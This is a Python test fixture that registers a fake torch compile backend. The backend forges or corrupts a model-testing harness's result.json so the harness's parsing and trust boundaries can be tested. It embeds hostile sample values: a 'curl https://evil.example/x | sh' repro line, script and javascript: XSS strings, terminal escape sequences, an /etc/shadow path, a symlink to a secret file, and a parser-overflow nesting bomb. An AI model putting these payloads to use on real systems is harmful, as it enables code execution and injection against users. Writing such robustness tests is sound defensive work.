"""A compile backend that forges the model process's result (``cpu+zoo_forge``).

It writes ``result.json`` in its working directory (the model process's work directory) and exits
at once, before the model process writes its own. What it forges comes from
``request.extras["forge"]``: ``identity`` (a well-formed result claiming another model, backend,
tier, revision, precision and repro), ``huge`` (9 MB), ``garbage``, ``deep`` (nesting that
overflows a recursive parser), ``nan``, ``schema`` (a status that does not exist), ``symlink``
(a link to ``extras["secret"]``), ``fifo`` (a named pipe nobody writes) and ``claims`` (a well-formed
mismatch, with every measurement, that also claims what only the parent may say: a known failure with a
``javascript:`` link, a triage, strict fp32, the verdict's author, published references, a dedup source,
another architecture, task and library, and an error message carrying markup and terminal escapes).
"""

from __future__ import annotations

import json
import os
from pathlib import Path

from torch._dynamo import register_backend


def forged_identity() -> dict:
    return {
        "model_id": "victim/model",
        "revision": "0" * 40,
        "tier": "full",
        "backend": "neuron+neuron",
        "device": "neuron",
        "dtype": "float32",
        "status": "pass",
        "reason": None,
        "fingerprint": "f" * 16,
        "library": "transformers",
        "architecture": "BertModel",
        "task": "feature-extraction",
        "precision": "bf16",
        "metrics": {"max_abs_diff": 0.0, "cosine": 1.0, "target_ms": 0.1},
        "fallback_ops": [],
        "op_census": {"aten::mm": 1},
        "error": None,
        "versions": {"torch": "9.9"},
        "repro": "curl https://evil.example/x | sh",
        "started_at": "2025-01-01T00:00:00+00:00",
        "duration_s": 0.1,
        "details": {
            "seed": 1234,
            "harness_version": "999",
            "sandbox": {"uid": 0, "missing": []},
            "precision_source": "plugin",
        },
    }


def forged_claims() -> dict:
    body = forged_identity()
    body.update(
        status="mismatch",
        library="evil-lib",
        architecture="EvilForModel",
        task="<script>alert(1)</script>",
        metrics={"max_abs_diff": 1.0, "max_rel_diff": 1.0, "rmse_ratio": 9.0, "cosine": 0.5},
        error={
            "type": "Mismatch",
            "message": "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b[2J<a href='javascript:alert(2)'>x</a>"
            " [why](javascript:alert(3))\r",
        },
    )
    body["details"].update(
        budget_use=9.0,
        known_failure={"reason": "known", "link": "javascript:alert(1)", "expires": "2099-12-31", "expired": False},
        known_failure_fixed={"reason": "x", "link": "javascript:alert(1)", "expires": "2099-12-31"},
        triage={"attribution": "backend", "repro": "/etc/shadow"},
        strict_fp32=True,
        verdict="model",
        reference_published={"key": "stored"},
        deduplicated_from="victim/model",
        quirk_known_failure={"reason": "known", "link": "javascript:alert(1)", "expires": "2099-12-31"},
    )
    return body


@register_backend
def zoo_forge(gm, example_inputs):
    request = json.loads((Path.cwd().parent / "request.json").read_text())
    extras = request.get("extras") or {}
    kind = extras["forge"]
    out = Path.cwd() / "result.json"
    if kind == "identity":
        out.write_text(json.dumps(forged_identity()))
    elif kind == "claims":
        out.write_text(json.dumps(forged_claims()))
    elif kind == "huge":
        body = forged_identity()
        body["details"]["padding"] = "x" * (9 << 20)
        out.write_text(json.dumps(body))
    elif kind == "garbage":
        out.write_bytes(b"{not json\xff")
    elif kind == "deep":
        out.write_text("[" * 200_000 + "]" * 200_000)
    elif kind == "nan":
        body = forged_identity()
        out.write_text(json.dumps(body).replace('"cosine": 1.0', '"cosine": NaN'))
    elif kind == "schema":
        body = forged_identity()
        body["status"] = "owned"
        out.write_text(json.dumps(body))
    elif kind == "symlink":
        os.symlink(extras["secret"], out)
    elif kind == "fifo":
        os.mkfifo(out)
    os._exit(0)
